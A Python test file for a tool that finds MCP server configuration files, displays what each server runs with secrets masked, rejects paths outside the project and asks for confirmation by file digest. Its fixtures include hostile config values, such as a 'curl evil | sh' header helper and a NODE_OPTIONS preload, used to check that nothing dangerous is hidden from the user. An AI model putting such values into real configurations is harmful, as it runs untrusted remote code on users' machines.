"""Which MCP files are found for a project, what is told of them, and what must be confirmed.

The rule: the files lie where the CLI 2.1.330 looks for them (measured); nothing of them is run, and
no secret is told.
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path
from typing import Any

import pytest

from claude_widget.errors import ConfirmationNeeded, InvalidRequest
from claude_widget.mcp.choices import confirmed_config, mcp_choices
from claude_widget.mcp.config import ReadConfig, load_mcp_config


def config(**servers: Any) -> str:
    return json.dumps({"mcpServers": servers})


def write(path: Path, text: str) -> str:
    """Write a file; its digest."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return hashlib.sha256(text.encode()).hexdigest()


def found(project: Path) -> list[tuple[str, str, list[str]]]:
    return [
        (choice.path, choice.scope, [server.name for server in choice.servers])
        for choice in mcp_choices(project)
    ]


def test_files_of_the_project_above_it_and_of_the_user(project: Path, tmp_path: Path) -> None:
    inner = project / "inner"
    (project / ".git").mkdir()
    inner.mkdir()
    write(inner / ".mcp.json", config(near={"command": "a"}))
    write(project / ".mcp.json", config(above={"command": "b"}))
    own = tmp_path / "home" / ".claude.json"
    projects = {
        str(project): {"mcpServers": {"here": {"command": "d"}}},
        "/other": {"mcpServers": {"there": {"command": "e"}}},
    }
    write(own, json.dumps({"mcpServers": {"mine": {"command": "c"}}, "projects": projects}))
    assert found(inner) == [
        (str(inner / ".mcp.json"), "project", ["near"]),
        (str(project / ".mcp.json"), "project", ["above"]),
        (str(own), "user", ["mine", "here"]),
    ]


def test_the_users_file_is_where_the_cli_has_it(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(tmp_path / "home" / ".claude.json", config(home={"command": "a"}))
    write(tmp_path / "named" / ".claude.json", config(named={"command": "a"}))
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(tmp_path / "named"))
    assert [names for _, _, names in found(project)] == [["named"]]


def test_a_users_file_without_servers_is_no_choice(project: Path, tmp_path: Path) -> None:
    write(tmp_path / "home" / ".claude.json", json.dumps({"numStartups": 3}))
    assert mcp_choices(project) == []


def test_what_a_server_runs_is_told_without_its_secrets(project: Path) -> None:
    servers = {
        "local": {
            "command": "npx",
            "args": ["-y", "a b", "--api-key", "s3cret", "--auth-token=s3cret", "--verbose"],
            "env": {"KEY": "s3cret"},
        },
        "remote": {
            "type": "http",
            "url": "https://me:s3cret@host.example:8443/mcp/x?key=s3cret#s3cret",
            "headers": {"Authorization": "Bearer s3cret"},
        },
        "odd": {"url": "http://[::bad"},
    }
    write(project / ".mcp.json", config(**servers))
    (choice,) = mcp_choices(project)
    assert [server.runs for server in choice.servers] == [
        "KEY=... npx -y 'a b' --api-key ... --auth-token=... --verbose",
        "https://host.example:8443/mcp/x",
        "(no address)",
    ]
    assert "s3cret" not in choice.model_dump_json()


RUNS: list[tuple[dict[str, Any], str]] = [
    (
        {"type": "http", "url": "https://good.example/", "headersHelper": "curl evil | sh"},
        "https://good.example/ with headers from: curl evil | sh",
    ),
    (
        {"type": "http", "command": "good", "url": "https://evil.example/"},
        "good https://evil.example/",
    ),
    (
        {"command": "node", "args": ["a.js"], "env": {"NODE_OPTIONS": "-r ./b.js", "KEY": "x"}},
        "NODE_OPTIONS='-r ./b.js' KEY=... node a.js",
    ),
    (
        {"command": "good", "env": {"PATH": "./bin", "GIT_TOKEN": "x"}},
        "PATH=./bin GIT_TOKEN=... good",
    ),
    ({"url": r"https://evil.example\@good.example/"}, "https://evil.example/@good.example/"),
    ({"command": "good", "env": 7, "args": "x"}, "good"),
    ({}, ""),
]


@pytest.mark.parametrize(("server", "runs"), RUNS)
def test_nothing_that_decides_what_runs_is_left_out(
    project: Path, server: dict[str, Any], runs: str
) -> None:
    write(project / ".mcp.json", config(one=server))
    (choice,) = mcp_choices(project)
    assert [shown.runs for shown in choice.servers] == [runs]


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"{", "not JSON"),
        (b"\xff\xfe\x00", "not UTF-8"),
        (b"[]", "names no servers"),
        (b'{"mcpServers": {"a": 7}}', "not an object"),
        (b" " * (1024 * 1024 + 1), "more than 1,048,576 bytes"),
        (b'{"mcpServers": {"a": {"command": "%s"}}}' % (b"x" * 5_000), "too long to show"),
        (config(**{f"s{n}": {"command": "x"} for n in range(101)}).encode(), "more than 100"),
    ],
    ids=["json", "utf-8", "list", "number", "large", "long", "many"],
)
def test_a_file_that_cannot_be_used_says_why(project: Path, content: bytes, words: str) -> None:
    (project / ".mcp.json").write_bytes(content)
    (choice,) = mcp_choices(project)
    assert words in choice.problem
    assert choice.servers == ()
    with pytest.raises(InvalidRequest, match="mcp"):
        confirmed_config(".mcp.json", project, choice.digest)


def test_a_pipe_or_a_dead_link_holds_nobody_up(project: Path) -> None:
    os.mkfifo(project / ".mcp.json")
    assert "is no file" in mcp_choices(project)[0].problem
    (project / ".mcp.json").unlink()
    (project / ".mcp.json").symlink_to(project / "nowhere")
    assert "cannot be read" in mcp_choices(project)[0].problem


def test_what_the_user_has_typed_needs_no_confirmation(project: Path) -> None:
    typed = config(mine={"command": "a"})
    assert confirmed_config(typed, project, None) == typed


def test_what_was_confirmed_is_what_is_used(project: Path) -> None:
    write(project / "servers.json", config(mine={"command": "a"}))
    with pytest.raises(ConfirmationNeeded) as caught:
        confirmed_config("servers.json", project, None)
    read = confirmed_config("servers.json", project, caught.value.digest)
    write(project / "servers.json", config(mine={"command": "b"}))
    used = json.loads(config(mine={"command": "a"}))
    assert isinstance(read, ReadConfig)
    assert load_mcp_config(read, project) == (used, str(project / "servers.json"))


@pytest.mark.parametrize("way", ["absolute", "relative", "dots", "link", "working folder"])
def test_page_names_no_file_outside_of_the_project(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    outside = tmp_path / "outside.json"
    write(outside, config(mine={"command": "a"}))
    (project / "link.json").symlink_to(outside)
    monkeypatch.chdir(tmp_path)
    given = {
        "absolute": str(outside),
        "relative": "../outside.json",
        "dots": f"{project}/../outside.json",
        "link": "link.json",
        "working folder": "outside.json",
    }[way]
    with pytest.raises(InvalidRequest, match="outside of the project"):
        confirmed_config(given, project, None)


def test_of_the_users_file_only_the_servers_are_used(project: Path, tmp_path: Path) -> None:
    own = tmp_path / "home" / ".claude.json"
    kept = {"oauthAccount": {"x": "s3cret"}, "mcpServers": {"mine": {"command": "c"}}}
    here = {str(project): {"mcpServers": {"here": {"command": "d"}}}}
    write(own, json.dumps({**kept, "projects": here}))
    read = confirmed_config(str(own), project, None)
    assert isinstance(read, ReadConfig)
    assert list(read.config) == ["mcpServers"]
    assert list(read.config["mcpServers"]) == ["mine", "here"]


def test_the_users_file_is_theirs_in_a_project_around_it(tmp_path: Path) -> None:
    home = tmp_path / "home"
    write(home / ".claude.json", config(mine={"command": "c"}))
    assert isinstance(confirmed_config(".claude.json", home, None), ReadConfig)
    (home / "innocent.json").symlink_to(home / "other.json")
    write(home / "other.json", config(other={"command": "c"}))
    with pytest.raises(ConfirmationNeeded):
        confirmed_config("innocent.json", home, None)


def ways_in(project: Path, tmp_path: Path) -> dict[str, str]:
    """Ways to name a file that came with the project."""
    write(project / "deep" / "servers.json", config(a={"command": "x"}))
    write(project.parent / ".mcp.json", config(a={"command": "x"}))
    (tmp_path / "alias").symlink_to(project)
    (project / "near.json").symlink_to(project / "deep" / "servers.json")
    return {
        "relative": "deep/servers.json",
        "absolute": str(project / "deep" / "servers.json"),
        "by a link to the project": str(tmp_path / "alias" / "deep" / "servers.json"),
        "by a link in the project": str(project / "near.json"),
        "with dots": f"{project}/deep/../../{project.name}/deep/servers.json",
        "above": str(project.parent / ".mcp.json"),
    }


@pytest.mark.parametrize(
    "way",
    [
        "relative",
        "absolute",
        "by a link to the project",
        "by a link in the project",
        "with dots",
        "above",
    ],
)
def test_every_way_to_a_projects_file_asks(project: Path, tmp_path: Path, way: str) -> None:
    given = ways_in(project, tmp_path)[way]
    with pytest.raises(ConfirmationNeeded) as caught:
        confirmed_config(given, project, "another digest")
    error = caught.value
    assert (error.servers, error.field) == ((("a", "x"),), "mcp_config")
    read = confirmed_config(given, project, error.digest)
    assert isinstance(read, ReadConfig)
    assert read.config == {"mcpServers": {"a": {"command": "x"}}}
